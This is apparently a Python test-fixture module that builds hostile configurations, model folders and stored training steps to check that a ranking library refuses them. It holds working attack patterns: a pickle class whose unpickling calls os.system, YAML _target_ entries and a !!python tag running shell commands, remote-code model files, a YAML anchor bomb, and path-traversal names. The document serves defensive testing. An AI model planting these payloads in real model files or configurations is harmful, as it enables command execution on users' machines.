"""Make hostile folders, with which an attacker tries to read, write or run what no folder may.

Each function takes a `Site` and returns the folder. An attack that succeeds leaves a file in `site.traces` or changes
`site.outside`.
"""

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from safetensors.torch import load_file, save_file


@dataclass
class Site:
    """The place of a hostile folder.

    Args:
        root: A new folder for all files.
        models: Name -> harmless model folder, which the functions copy.
    """

    root: Path
    models: dict[str, Path]

    def __post_init__(self) -> None:
        self.traces, self.outside = self.root / "traces", self.root / "outside"
        self.traces.mkdir()
        self.outside.mkdir()
        (self.outside / "thesis.tex").write_text("years of work\n")
        self.folder = self.root / "sent"
        self.folder.mkdir()

    @property
    def touch(self) -> str:
        """Return a shell command that leaves a file in `traces`."""
        return f"touch {self.traces / 'ran'}"

    def state(self) -> dict[str, bytes]:
        """Return all files outside of the hostile folder, of which no attack may add, remove or change one."""
        return {
            str(path): path.read_bytes()
            for part in (self.traces, self.outside)
            for path in sorted(part.rglob("*"))
            if path.is_file()
        }


class Evil:
    """An object whose unpickling runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


# configurations
# ----------------------------------------------------------------------------------------------------------------------

SOUND = """
name: sound
model: {_target_: ranker.models.monobert.MonoBERT, pooling: cls, pooler: false, num_labels: 1, dropout: 0.0}
encoder: {_target_: ranker.encoders.loading.load_encoder, name: tiny, pretrained: false}
loss: {_target_: ranker.losses.lce.LCE, temperature: 1.0}
data: {_target_: ranker.data.sources.files.Files, path: /nowhere}
optim: {_target_: torch.optim.AdamW, _partial_: true, lr: 0.001, weight_decay: 0.0}
schedule: {_target_: ranker.training.schedules.constant, _partial_: true, warmup: 0}
trainer: {max_epochs: 1}
"""
LOGGING = "version: 1, handlers: {console: {'()': os.system, command: 'TOUCH'}}"


def deep(levels: int) -> str:
    """Return YAML lists nested this many levels deep."""
    return "[" * levels + "]" * levels


def bomb() -> str:
    """Return a few hundred bytes of YAML anchors that expand to 9 ** 9 words."""
    lines = ["data: {a0: &a0 [" + ", ".join(["x"] * 9) + "]"]
    lines += [f"  , a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
    return "\n".join([*lines, "}"])


# text that replaces the line of SOUND with the same key, or is added to SOUND; TOUCH is a shell command that leaves a
# trace, OUT a folder elsewhere
CONFIGURATIONS = {
    "callable as model": "model: {_target_: os.system, command: 'TOUCH'}",
    "callable in a list": (
        "model: {_target_: ranker.models.monobert.MonoBERT, pooling: [{_target_: os.system, command: 'TOUCH'}]}"
    ),
    "callable in a trusted part": (
        "model: {_target_: torch.nn.Sequential, 0: {_target_: subprocess.call, args: 'TOUCH'}}"
    ),
    "code of the hub": "encoder: {_target_: torch.hub.load, repo_or_dir: evil/evil, source: github}",
    "function that writes": "data: {_target_: ranker.training.run_writer.write_text, path: OUT/new, text: x}",
    "a folder to write to": "data: {_target_: ranker.data.sources.rows.Rows, train: a.jsonl, cache_dir: OUT/new}",
    "positional arguments": "model: {_target_: ranker.models.monobert.MonoBERT, _args_: [1]}",
    "Hydra's logging": f"job_logging: {{{LOGGING}}}",
    "Hydra itself": f"hydra: {{job_logging: {{{LOGGING}}}}}",
    "defaults": "defaults: [/evil]",
    "unknown key": "evil: {_target_: os.system}",
    "unknown key of the trainer": "trainer: {max_epochs: 1, callbacks: [x]}",
    "unknown key of a group": "loss: {_target_: ranker.losses.lce.LCE, evil: 1}",
    "upload": "trainer: {max_epochs: 1, model_registry: evil/evil}",
    "variable": "name: ${oc.env:HOME}",
    "made node": "model: ${oc.create:{_target_:os.system,command:ls}}",
    "name that leads out": "name: ../../outside/x",
    "absolute name": "name: OUT/x",
    "checkpoints elsewhere": "callbacks: {c: {_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: OUT}}",
    "checkpoints above": (
        "callbacks: {c: {_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: a/../../../outside}}"
    ),
    "checkpoint's name": (
        "callbacks: {c: {_target_: lightning.pytorch.callbacks.ModelCheckpoint, filename: ../../../outside/thesis}}"
    ),
    "last words elsewhere": (
        "callbacks: {c: {_target_: lightning.pytorch.callbacks.OnExceptionCheckpoint, dirpath: OUT}}"
    ),
    "callback of another package": "callbacks: {c: {_target_: subprocess.Popen, args: 'TOUCH'}}",
    "logger elsewhere": "logger: {_target_: lightning.pytorch.loggers.CSVLogger, _partial_: true, save_dir: x}",
    "logger at once": "logger: {_target_: ranker.training.loggers.csv, folder: x}",
    "logger's version": (
        "logger: {_target_: lightning.pytorch.loggers.TensorBoardLogger, _partial_: true, version: ../../outside}"
    ),
    "Python tag": "name: !!python/object/apply:os.system ['TOUCH']",
    "anchors": bomb(),
    "depth": f"measures: {deep(500)}",
    "great depth": f"measures: {deep(100_000)}",
    "size": f"name: {'x' * 2_000_000}",
    "text for a number": "max_doc_tokens: many",
    "list for a group": "trainer: [1, 2]",
    "text for a group": "model: monobert",
    "half a file": "model: {_target_: ranker",
    "binary": "\x00\x01\x02",
}


def configuration(site: Site, trait: str) -> str:
    """Return the text of a configuration with a trait."""
    text = CONFIGURATIONS[trait].replace("TOUCH", site.touch).replace("OUT", str(site.outside))
    key = text.split(":", 1)[0]
    return "".join(f"{line}\n" for line in SOUND.strip().splitlines() if not line.startswith(f"{key}:")) + text + "\n"


# model folders
# ----------------------------------------------------------------------------------------------------------------------


def changed(path: Path, **values: object) -> None:
    """Set keys of a JSON object."""
    path.write_text(json.dumps((json.loads(path.read_text()) if path.is_file() else {}) | values))


def pickled(site: Site, folder: Path, target: Path | None = None) -> None:
    """Write weights as a pickle that calls a shell command."""
    (folder / "model.safetensors").unlink(missing_ok=True)
    torch.save(
        {"linear.weight": Evil(site.touch), "bert.x": Evil(site.touch)}, (target or folder) / "pytorch_model.bin"
    )


def sharded(site: Site, folder: Path, name: str) -> None:
    """Write weights whose index names a file elsewhere."""
    weights = load_file(folder / "model.safetensors")
    (folder / "model.safetensors").unlink()
    save_file(weights, site.outside / "weights.safetensors")
    index = {"metadata": {}, "weight_map": dict.fromkeys(weights, name)}
    (folder / "model.safetensors.index.json").write_text(json.dumps(index))


def own_code(site: Site, folder: Path) -> None:
    """Write a model with its own code, as the hub allows."""
    changed(
        folder / "config.json", model_type="evil", auto_map={"AutoConfig": "evil.Config", "AutoModel": "evil.Model"}
    )
    (folder / "evil.py").write_text(f"import os\nos.system({site.touch!r})\n")


def own_tokenizer(site: Site, folder: Path) -> None:
    """Write a tokenizer with its own code."""
    changed(folder / "tokenizer_config.json", tokenizer_class="Evil", auto_map={"AutoTokenizer": [None, "evil.Evil"]})
    (folder / "tokenizer.json").unlink()
    (folder / "evil.py").write_text(f"import os\nos.system({site.touch!r})\n")


def elsewhere(site: Site, folder: Path) -> None:
    """Write weights that link to a file elsewhere, as in a hub's cache; the file must be read and not changed."""
    (folder / "model.safetensors").rename(site.outside / "weights.safetensors")
    (folder / "model.safetensors").symlink_to(site.outside / "weights.safetensors")


def modules(folder: Path, *entries: object) -> None:
    """Write a modules.json with these entries: (type, path), or any other value."""
    listed = [
        {"idx": i, "name": str(i), "path": own[1], "type": own[0]} if isinstance(own, tuple) else own
        for i, own in enumerate(entries)
    ]
    (folder / "modules.json").write_text(json.dumps(listed))


TRANSFORMER = ("sentence_transformers.models.Transformer", "")
# trait -> name of the harmless folder that is copied, and the function that changes the copy
MODELS: dict[str, tuple[str, Callable[[Site, Path], object]]] = {
    "pickled weights": ("monobert", pickled),
    "index that leads up": ("monobert", lambda site, folder: sharded(site, folder, "../outside/weights.safetensors")),
    "index that leads elsewhere": (
        "monobert",
        lambda site, folder: sharded(site, folder, str(site.outside / "weights.safetensors")),
    ),
    "code beside the weights": ("monobert", own_code),
    "code beside the tokenizer": ("monobert", own_tokenizer),
    "attention from the hub": (
        "monobert",
        lambda _, folder: changed(folder / "config.json", attn_implementation="evil/kernel"),
    ),
    "quantised": (
        "monobert",
        lambda _, folder: changed(folder / "config.json", quantization_config={"quant_method": "evil"}),
    ),
    "adapter": (
        "monobert",
        lambda _, folder: changed(folder / "adapter_config.json", base_model_name_or_path="../outside"),
    ),
    "deep configuration": ("monobert", lambda _, folder: (folder / "config.json").write_text(deep(100_000))),
    "list as configuration": ("monobert", lambda _, folder: (folder / "config.json").write_text("[]")),
    "no trusted scorer": (
        "monobert",
        lambda _, folder: (folder / "ranker.yaml").write_text("model: {_target_: torch.nn.Identity}\n"),
    ),
    "no scorer at all": (
        "monobert",
        lambda _, folder: (folder / "ranker.yaml").write_text("model: {_target_: ranker.retrieval.bm25.BM25}\n"),
    ),
    "weights elsewhere": ("monobert", elsewhere),
    "heads of another kind": (
        "multitask",
        lambda _, folder: (folder / "heads.json").write_text('{"a": {"asked": {"task": "../x"}}}'),
    ),
    "module above": (
        "dpr",
        lambda _, folder: modules(folder, TRANSFORMER, ("sentence_transformers.models.Dense", "../outside")),
    ),
    "module elsewhere": ("dpr", lambda site, folder: modules(folder, TRANSFORMER, ("x.Dense", str(site.outside)))),
    "transformer elsewhere": ("dpr", lambda _, folder: modules(folder, ("x.Transformer", "../outside"))),
    "module's class": ("dpr", lambda _, folder: modules(folder, TRANSFORMER, ("evil.Module", "1_Pooling"))),
    "router's route": (
        "dpr",
        lambda _, folder: (
            modules(folder, ("x.Router", "")),
            changed(
                folder / "router_config.json",
                structure={"query": ["../outside"], "document": ["../outside"]},
                types={"../outside": "x.Transformer"},
            ),
        ),
    ),
    "no module": ("dpr", lambda _, folder: modules(folder)),
    "modules without paths": ("dpr", lambda _, folder: modules(folder, {"evil": 1}, 3)),
    "deep modules": ("dpr", lambda _, folder: (folder / "modules.json").write_text(deep(100_000))),
    "pickled dense": ("dpr", lambda site, folder: pickled(site, folder / "2_Dense")),
    "activation": ("dpr", lambda _, folder: changed(folder / "2_Dense/config.json", activation_function="os.system")),
    "pickled Stanford ColBERT": (
        "colbert",
        lambda site, folder: (
            pickled(site, folder),
            changed(folder / "config.json", architectures=["HF_ColBERT"]),
            (folder / "modules.json").unlink(),
        ),
    ),
}
HARMLESS = ("weights elsewhere",)  # traits of folders that load


def model(site: Site, trait: str) -> Path:
    """Return a model folder with a trait."""
    base, change = MODELS[trait]
    folder = site.folder / "model"
    shutil.copytree(site.models[base], folder)
    change(site, folder)
    return folder


# steps to repeat
# ----------------------------------------------------------------------------------------------------------------------

ABOUT = {
    "step": 1,
    "epoch": 0,
    "index": 0,
    "loss": "nan",
    "grad_norm": "nan",
    "query_ids": ["q"],
    "devices": 1,
    "precision": "32-true",
}
STEP = {"type": "ranker.types.TrainStep", "fields": {}}
# trait -> content of dump.json, and content of the first device's part
STEPS = {
    "callable as type": (ABOUT, {"type": "os.system", "fields": {"command": "TOUCH"}}),
    "another of this program's": (
        ABOUT,
        {"type": "ranker.training.run_writer.write_text", "fields": {"path": "OUT/new", "text": ""}},
    ),
    "imported there": (ABOUT, {"type": "ranker.types.dataclass", "fields": {}}),
    "no fields": (ABOUT, STEP),
    "unknown tensor": (ABOUT, {"tensor": "../../x"}),
    "no device": (ABOUT | {"devices": 0}, STEP),
    "many devices": (ABOUT | {"devices": 10**12}, STEP),
    "text for a number": (ABOUT | {"devices": "1"}, STEP),
    "little is said": ({"devices": 1}, STEP),
    "list": ([], STEP),
}


def step(site: Site, trait: str) -> Path:
    """Return a stored step with a trait, beside a harmless configuration."""
    about, part = STEPS[trait]
    folder = site.folder / "step-1"
    folder.mkdir()
    (folder / "dump.json").write_text(json.dumps(about))
    (folder / "device-0.json").write_text(
        json.dumps(part).replace("TOUCH", site.touch).replace("OUT", str(site.outside))
    )
    (folder / "config.yaml").write_text(SOUND)
    for name in ("device-0", "weights"):
        save_file({"none": torch.zeros(1)}, folder / f"{name}.safetensors")
    return folder
